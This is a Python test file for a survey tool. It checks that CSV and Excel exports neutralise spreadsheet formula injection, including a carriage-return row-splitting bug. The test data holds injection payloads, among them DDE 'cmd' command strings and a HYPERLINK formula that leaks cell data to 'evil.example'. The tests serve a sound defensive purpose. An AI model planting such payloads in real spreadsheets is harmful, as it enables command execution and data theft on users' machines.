"""Issue 11, defect 3: no text from a respondent reaches a spreadsheet as a formula, on any line of a cell.

A comment ``"see minutes\\r=cmd|' /C calc'!A0"`` used to leave ``assessment export --format csv`` unquoted
(pandas ends rows with ``\\n``, so Python's csv writer did not quote a bare ``\\r``) and a reader saw a new
row starting ``=cmd|...``. Every file is read back the hard way: ``csv.reader`` over text opened with
``newline=""`` (so a bare carriage return inside a field is data, outside a field a row break), and
``openpyxl`` for the workbook.
"""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from assessment.cli import main
from assessment.tabular import formula_safe, to_csv_bytes, to_csv_text, to_xlsx_bytes
from tests.integration.conftest import ADMIN, ITEMS, PEOPLE

ROOT = Path(__file__).resolve().parents[2]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

PAYLOADS = [
    "see minutes\r=cmd|' /C calc'!A0",
    "see minutes\n=cmd|' /C calc'!A0",
    "see minutes\r\n=cmd|' /C calc'!A0",
    "\r=cmd|' /C calc'!A0",
    "\n+SUM(1,2)",
    "\t=1+1",
    "first line\t\n\t-2+3",
    "a\r@SUM(A1)\rb\r-1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"evidence")',
    "-3 repeat callers since the joint rota began",
    "ok, \"quoted\"\r\n\r\n+44 1632 960000",
]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def formula_lines(cells) -> list[str]:
    """Every line of every text cell that a spreadsheet (or a naive line reader) would start as a formula."""
    found = []
    for cell in cells:
        if not isinstance(cell, str) or cell == "" or _is_number(cell):
            continue
        found += [line for line in re.split(r"\r\n|\r|\n", cell) if line.startswith(FORMULA_START)]
    return found


def read_csv_rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def read_xlsx_cells(data: bytes) -> list[tuple[str, object]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                cells.append((f"{sheet.title}!{cell.coordinate}", cell.value))
    return cells


# -- the one writer ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_comes_back_as_one_cell_with_no_line_starting_a_formula(payload):
    frame = pd.DataFrame({"comment": [payload, "plain"], "score": [-0.5, 3.0], payload: ["x", "y"]})
    rows = read_csv_rows(to_csv_bytes(frame))
    assert len(rows) == 3 and all(len(row) == 3 for row in rows), rows
    assert formula_lines(cell for row in rows for cell in row) == []
    assert rows[1][1] == "-0.5"  # numbers stay numbers
    # nothing but the apostrophes was added: removing them gives the text back
    assert rows[1][0].replace("'", "") == payload.replace("'", "")
    cells = read_xlsx_cells(to_xlsx_bytes({"answers": frame}))
    assert formula_lines(value for _, value in cells) == []
    assert [value for _, value in cells if value == -0.5] == [-0.5]


def test_the_reported_comment_is_quoted_and_guarded():
    text = to_csv_text(pd.DataFrame({"comment": [PAYLOADS[0]]}))
    assert text == "comment\r\n\"see minutes\r'=cmd|' /C calc'!A0\"\r\n"


def test_the_guard_works_on_every_text_dtype():
    for dtype in (object, "string", "str"):
        frame = pd.DataFrame({"comment": pd.Series(PAYLOADS, dtype=dtype)})
        assert formula_lines(formula_safe(frame)["comment"]) == []


# -- every CSV the product writes ------------------------------------------------------------------------------

def _responses(comments: list[str]) -> str:
    """A valid Kent file (nine respondents, seven items) whose first answers carry the payload comments."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(["partnership", "round", "respondent", "agency", "item", "value", "comment"])
    n = 0
    for who, agency in PEOPLE:
        for i, item in enumerate(ITEMS):
            comment = comments[n] if n < len(comments) else ""
            writer.writerow(["kent", "kent-2026-h1", who, agency, item, str((n + i) % 5 + 1), comment])
            n += 1
    return buffer.getvalue()


@pytest.fixture
def run(db, tmp_path):
    env = {"ASSESSMENT_DATABASE_URL": db.engine.url.render_as_string(hide_password=False),
           "ASSESSMENT_DATA_DIR": str(tmp_path / "data")}
    runner = CliRunner()

    def invoke(*args: str):
        result = runner.invoke(main, [str(a) for a in args], env=env)
        assert result.exit_code == 0, (result.output, result.exception)
        return result

    return invoke


def test_every_export_of_a_round_reads_back_with_no_formula(db, run, mini_v1_path, tmp_path):
    """``assessment export`` (CSV, every table, and Excel) and the app's download (``export_round``)."""
    from assessment.storage import services

    with db.sessions.begin() as session:
        services.publish_questionnaire(session, __import__("assessment.questionnaire", fromlist=["x"])
                                       .load_questionnaire(mini_v1_path), actor=ADMIN)
        services.add_partnership(session, "kent", "Kent\r=cmd|' /C calc'!A0", members=["kent"], actor=ADMIN)
        services.create_round(session, "kent", "2026-H1", questionnaire="mini-partnership", version="1.0.0",
                              actor=ADMIN)
        services.open_round(session, "kent-2026-h1", actor=ADMIN)
        services.import_responses(session, "kent-2026-h1", _responses(PAYLOADS).encode("utf-8"), actor=ADMIN)
        services.close_round(session, "kent-2026-h1", actor=ADMIN)

    out = tmp_path / "kent.csv"
    run("export", "--round", "kent-2026-h1", "--format", "csv", "--out", out)
    answers_out = tmp_path / "kent-answers.csv"  # the answers leave through the data custodian's export
    run("custodian-export", "--round", "kent-2026-h1", "--format", "csv", "--out", answers_out,
        "--purpose", "audit of the payload comments")
    written = sorted(tmp_path.glob("kent*.csv"))
    assert len(written) >= 5, written  # the four score tables plus the custodian's answers
    for path in written:
        rows = read_csv_rows(path.read_bytes())
        assert len({len(row) for row in rows}) == 1, f"{path.name}: a row was split"
        assert formula_lines(cell for row in rows for cell in row) == [], path.name
    answers = read_csv_rows(answers_out.read_bytes())
    assert len(answers) == 1 + len(PEOPLE) * len(ITEMS)
    comments = [row[answers[0].index("comment")] for row in answers[1:]]
    assert sum(1 for c in comments if c) == len(PAYLOADS)

    for command in ("export", "custodian-export"):
        book = tmp_path / f"kent-{command}.xlsx"
        run(command, "--round", "kent-2026-h1", "--format", "xlsx", "--out", book,
            *(["--purpose", "audit"] if command == "custodian-export" else []))
        assert formula_lines(value for _, value in read_xlsx_cells(book.read_bytes())) == []

    with db.sessions() as session:
        for table in services.EXPORT_TABLES:
            rows = read_csv_rows(services.export_round(session, "kent-2026-h1", "csv", table=table))
            assert formula_lines(cell for row in rows for cell in row) == [], table
        workbook = services.export_round(session, "kent-2026-h1", "xlsx")
    assert formula_lines(value for _, value in read_xlsx_cells(workbook)) == []


def test_the_scoring_and_peer_commands_write_guarded_csv(tmp_path, mini_v1_path):
    runner = CliRunner()
    responses = tmp_path / "responses.csv"
    text = _responses(PAYLOADS).replace("\r\np1,", "\r\n\"=cmd|' /C calc'!A0\",")
    responses.write_text(text, encoding="utf-8", newline="")
    for level in ("respondent", "agency", "partnership", "overall", "item"):
        result = runner.invoke(main, ["score", "--questionnaire", str(mini_v1_path), "--responses", str(responses),
                                      "--level", level])
        assert result.exit_code == 0, result.output
        rows = read_csv_rows(result.stdout_bytes)
        assert len({len(row) for row in rows}) == 1
        assert formula_lines(cell for row in rows for cell in row) == [], level
        out = tmp_path / f"{level}.csv"
        assert runner.invoke(main, ["score", "--questionnaire", str(mini_v1_path), "--responses", str(responses),
                                    "--level", level, "--out", str(out)]).exit_code == 0
        assert formula_lines(cell for row in read_csv_rows(out.read_bytes()) for cell in row) == []

    names = ["Kent\r=cmd|' /C calc'!A0", "Surrey\n+1", "Sussex", "Essex"]
    scores, partnerships = tmp_path / "scores.csv", tmp_path / "partnerships.csv"
    pd.DataFrame({"partnership": names, "round": "2026-H1", "domain": "triage",
                  "score": [3.0, 2.0, 2.5, 3.5]}).to_csv(scores, index=False, lineterminator="\r\n")
    pd.DataFrame({"partnership": names, "nation": "England", "region": "South East"}).to_csv(
        partnerships, index=False, lineterminator="\r\n")
    for command in (["benchmark", "--scores", scores, "--partnerships", partnerships, "--partnership", names[0],
                     "--round", "2026-H1", "--min-peers", "2"],
                    ["regions", "--scores", scores, "--partnerships", partnerships, "--round", "2026-H1",
                     "--min-peers", "2"]):
        result = runner.invoke(main, [str(a) for a in command])
        assert result.exit_code == 0, result.output
        rows = read_csv_rows(result.stdout_bytes)
        assert len({len(row) for row in rows}) == 1, command[0]
        assert formula_lines(cell for row in rows for cell in row) == [], command[0]


# -- the walk: no other CSV or Excel writer anywhere in the app or the CLI ---------------------------------------

WRITER_CALLS = {"to_csv", "to_excel", "writer", "DictWriter", "ExcelWriter"}
# Files allowed to call a writer directly, each with its reason.
ALLOWED = {
    "assessment/tabular.py": "the one writer",
    "assessment/demo.py": "the demo's answers going INTO the importer, stored exactly as written, never a download",
}
SAFE_SOURCES = ("to_csv_bytes", "to_xlsx_bytes", "to_csv_text", "export_round", "backup")
#: Downloads that are documents rather than tables; their user text is escaped by the HTML renderer and is
#: checked in tests/adversarial/test_board_pack_disclosure.py and the board pack tests.
DOCUMENT_MIMES = {"text/html", "application/pdf"}


def _sources() -> list[Path]:
    return sorted([*ROOT.glob("assessment/**/*.py"), *ROOT.glob("app_pages/*.py"), ROOT / "streamlit_app.py"])


def test_no_csv_or_excel_is_written_outside_the_one_writer():
    offenders = []
    for path in _sources():
        relative = path.relative_to(ROOT).as_posix()
        if relative in ALLOWED or "/migrations/" in relative:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in WRITER_CALLS:
                owner = ast.unparse(node.func.value)
                if node.func.attr in {"writer", "DictWriter"} and owner != "csv":
                    continue
                offenders.append(f"{relative}:{node.lineno}: {ast.unparse(node.func)}")
    assert offenders == [], "write CSV/Excel through assessment.tabular:\n" + "\n".join(offenders)


def test_every_download_button_serves_the_one_writer():
    """Each ``download_button``'s data is a tabular writer call, or a name whose definition uses one."""
    checked = 0
    for path in _sources():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        definitions = {node.name: ast.unparse(node) for node in ast.walk(tree)
                       if isinstance(node, ast.FunctionDef)}
        for node in ast.walk(tree):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr == "download_button"):
                continue
            data = next((k.value for k in node.keywords if k.arg == "data"), node.args[1] if len(node.args) > 1
                        else None)
            assert data is not None, f"{path.name}:{node.lineno}: download_button without data"
            mime = next((k.value for k in node.keywords if k.arg == "mime"), None)
            if isinstance(mime, ast.Constant) and mime.value in DOCUMENT_MIMES:
                continue  # an HTML or PDF document (board pack, printable questionnaire), not a table
            source = ast.unparse(data)
            if isinstance(data, ast.Name) and data.id in definitions:
                source = definitions[data.id]
            elif isinstance(data, ast.Name):
                source = ast.unparse(tree)  # a variable (the backup zip kept in session state)
            assert any(name in source for name in SAFE_SOURCES), (
                f"{path.relative_to(ROOT)}:{node.lineno}: download data {ast.unparse(data)!r} does not come from "
                f"assessment.tabular or export_round")
            checked += 1
    assert checked >= 6  # results, trends, regions, portfolio, invite links, round export (x2), backup
